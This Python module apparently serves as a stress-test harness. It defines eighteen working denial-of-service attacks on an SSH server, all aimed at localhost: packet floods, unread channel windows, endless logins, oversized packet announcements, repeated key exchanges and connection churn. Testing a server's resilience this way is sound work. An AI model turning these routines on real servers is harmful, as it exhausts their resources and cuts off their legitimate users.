"""What somebody may try who wants a server to have no memory, or no time, left: each for some seconds."""

import asyncio
import itertools
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from typing import Any, TypeAlias

import asyncssh
from asyncssh.packet import Boolean, Byte, String, UInt32

Attack: TypeAlias = Callable[[int, asyncssh.SSHKey], Awaitable[None]]
"""Goes on until it is cancelled, against a port, with a key that may come in."""

MSG_IGNORE, MSG_UNKNOWN, MSG_USERAUTH_REQUEST, MSG_GLOBAL_REQUEST = 2, 12, 50, 80
MSG_CHANNEL_OPEN, MSG_CHANNEL_DATA, MSG_CHANNEL_REQUEST = 90, 94, 98
_MUCH = 1 << 20
"""Bytes that wait here before more is made up."""


@asynccontextmanager
async def inside(port: int, key: asyncssh.SSHKey, *, here: str = "127.0.0.1") -> AsyncIterator[Any]:
    options: dict[str, Any] = {"known_hosts": None, "config": None, "agent_path": None, "local_addr": (here, 0)}
    async with asyncssh.connect("127.0.0.1", port, username="me", client_keys=[key], **options) as connection:
        yield connection


@asynccontextmanager
async def before_login(port: int) -> AsyncIterator[Any]:
    """Yield a connection that has keys, and no login yet."""
    made: list[Any] = []

    class Client(asyncssh.SSHClient):
        def connection_made(self, conn: asyncssh.SSHClientConnection) -> None:
            made.append(conn)

        async def public_key_auth_requested(self) -> None:
            await asyncio.sleep(3600)

    options: dict[str, Any] = {"config": None, "agent_path": None, "client_factory": Client, "client_keys": []}
    coming = asyncio.ensure_future(asyncssh.connect("127.0.0.1", port, username="me", known_hosts=None, **options))
    try:
        while not (made and made[0]._auth_in_progress):
            await asyncio.sleep(0.01)
        yield made[0]
    finally:
        coming.cancel()
        await asyncio.wait([coming])  # lets through whoever ends the attack just now
        if not coming.cancelled():
            coming.exception()


async def flood(connection: Any, kind: int, *parts: bytes) -> None:
    """Send a packet again and again, as fast as it is taken."""
    while connection._transport is not None:
        while connection._transport is not None and connection._transport.get_write_buffer_size() < _MUCH:
            for _ in range(20):
                connection.send_packet(kind, *parts)
            await asyncio.sleep(0)
        await asyncio.sleep(0.005)


def hold_still(connection: Any) -> None:
    """Read nothing any more."""
    connection._transport.pause_reading()


async def session(connection: Any, *, term: str = "xterm", window: int = (1 << 31) - 1) -> Any:
    channel, _ = await connection.create_session(
        asyncssh.SSHClientSession, encoding=None, term_type=term, term_size=(200, 60), window=window
    )
    return channel


async def opens_its_window_and_reads_nothing(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        for _ in range(10):
            await session(connection)
        hold_still(connection)
        await asyncio.sleep(3600)


async def opens_no_window(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        for _ in range(10):
            (await session(connection, window=1)).pause_reading()
        await asyncio.sleep(3600)


async def asks_and_reads_no_answers(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        hold_still(connection)
        await flood(connection, MSG_GLOBAL_REQUEST, String("keepalive@openssh.com"), Boolean(True))


async def wants_ports_forwarded(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        hold_still(connection)
        where = String("x" * 500), UInt32(1)
        await flood(connection, MSG_GLOBAL_REQUEST, String("tcpip-forward"), Boolean(True), *where)


async def sends_what_is_unknown(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        hold_still(connection)
        await flood(connection, MSG_UNKNOWN)


async def floods_before_it_logs_in(port: int, key: asyncssh.SSHKey) -> None:
    async with before_login(port) as connection:
        await flood(connection, MSG_IGNORE, String(b"x" * 30_000))


async def tries_to_log_in_for_ever(port: int, key: asyncssh.SSHKey) -> None:
    while True:
        async with before_login(port) as connection:
            for number in itertools.count():
                if connection._transport is None:
                    break
                who = String(f"user-{number}"), String("ssh-connection"), String("none")
                connection.send_packet(MSG_USERAUTH_REQUEST, *who)
                await asyncio.sleep(0)


async def announces_huge_packets(port: int, key: asyncssh.SSHKey) -> None:
    async with AsyncExitStack() as stack:
        for size in itertools.cycle((0xFFFFFFFF, 256 * 1024, 1 << 30)):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            stack.callback(writer.close)
            writer.write(b"SSH-2.0-x\r\n" + UInt32(size) + bytes(250_000))
            await asyncio.sleep(0.01)


async def opens_channels(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        for number in itertools.count():
            for each in range(200):
                what = String("session"), UInt32(1000 + number * 200 + each), UInt32(1 << 20), UInt32(1 << 15)
                connection.send_packet(MSG_CHANNEL_OPEN, *what)
            await asyncio.sleep(0.01)


async def fills_environments(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        channels = [await _unstarted(connection) for _ in range(10)]
        for number in itertools.count():
            for channel in channels:
                channel.send_packet(
                    MSG_CHANNEL_REQUEST, String("env"), Boolean(False), String(f"N{number}"), String(b"x" * 30_000)
                )
            while connection._transport is not None and connection._transport.get_write_buffer_size() > _MUCH:
                await asyncio.sleep(0.005)
            await asyncio.sleep(0)


async def _unstarted(connection: Any) -> Any:
    make: Any = asyncssh.SSHClientChannel
    channel = make(connection, connection._loop, "strict", None, "strict", 1 << 20, 1 << 15)
    packet = await channel._open(b"session")
    packet.check_end()
    channel._session = asyncssh.SSHClientSession()
    return channel


async def types_into_what_does_not_read(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        channels = [await _unstarted(connection) for _ in range(10)]
        for channel in channels:
            for at in range(channel._send_window):
                channel.send_packet(MSG_CHANNEL_DATA, String(b"x"))
                if not at % 200:
                    await asyncio.sleep(0)
        await asyncio.sleep(3600)


async def types_faster_than_it_is_shown(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        channel = await session(connection)
        while True:
            if channel.get_write_buffer_size() < _MUCH:
                channel.write(b"x" * 10_000)
            await asyncio.sleep(0.002)


async def drags_its_window(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        channel = await session(connection)
        for number in itertools.count():
            channel.change_terminal_size(80 + number % 40, 24)
            if not number % 50:
                await asyncio.sleep(0)
            while connection._transport is not None and connection._transport.get_write_buffer_size() > _MUCH:
                await asyncio.sleep(0.005)


async def wants_new_keys_all_the_time(port: int, key: asyncssh.SSHKey) -> None:
    while True:
        with suppress(asyncssh.Error, OSError):
            async with inside(port, key) as connection:
                while connection._transport is not None:
                    connection._send_kexinit()
                    connection._kexinit_sent = True
                    while connection._transport is not None and not connection._kex_complete:
                        await asyncio.sleep(0.001)


async def wants_new_keys_and_takes_none(port: int, key: asyncssh.SSHKey) -> None:
    async with inside(port, key) as connection:
        for _ in range(10):
            await session(connection)
        encrypt = connection._send_kexinit
        connection.data_received = lambda data, datatype=None: None
        encrypt()
        connection._kex_complete = True  # it goes on as if nothing was
        await flood(connection, MSG_GLOBAL_REQUEST, String("keepalive@openssh.com"), Boolean(True))
        await asyncio.sleep(3600)


async def exchanges_keys_slowly(port: int, key: asyncssh.SSHKey) -> None:
    async with AsyncExitStack() as stack:
        for number in itertools.count():
            with suppress(OSError):
                here = f"127.0.1.{number % 250 + 1}", 0
                _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=here)
                stack.callback(writer.close)
                writer.write(b"SSH-2.0-x\r\n" + UInt32(2000) + Byte(4) + Byte(20))
            await asyncio.sleep(0.2 if number > 15 else 0)


async def connects_and_says_nothing(port: int, key: asyncssh.SSHKey) -> None:
    async with AsyncExitStack() as stack:
        for number in itertools.count():
            with suppress(OSError):
                here = f"127.0.2.{number % 250 + 1}", 0
                _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=here)
                stack.callback(writer.close)
            await asyncio.sleep(0.2 if number > 15 else 0)


async def comes_and_goes(port: int, key: asyncssh.SSHKey) -> None:
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.close()
        await asyncio.sleep(0)


ATTACKS: dict[str, Attack] = {
    each.__name__.replace("_", " "): each
    for each in (
        opens_its_window_and_reads_nothing,
        opens_no_window,
        asks_and_reads_no_answers,
        wants_ports_forwarded,
        sends_what_is_unknown,
        floods_before_it_logs_in,
        tries_to_log_in_for_ever,
        announces_huge_packets,
        opens_channels,
        fills_environments,
        types_into_what_does_not_read,
        types_faster_than_it_is_shown,
        drags_its_window,
        wants_new_keys_all_the_time,
        wants_new_keys_and_takes_none,
        exchanges_keys_slowly,
        connects_and_says_nothing,
        comes_and_goes,
    )
}
